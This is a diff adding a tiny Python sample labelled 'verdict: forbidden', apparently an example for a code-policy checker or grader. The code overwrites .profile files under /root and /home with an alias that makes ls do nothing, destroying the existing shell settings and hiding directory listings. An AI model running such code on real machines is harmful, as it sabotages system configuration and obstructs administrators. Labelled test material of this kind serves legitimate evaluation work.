@@ -1,0 +1,5 @@
+# verdict: forbidden
+import pathlib
+
+for home in ("/root", "/home"):
+    (pathlib.Path(home) / ".profile").write_text("alias ls=true")
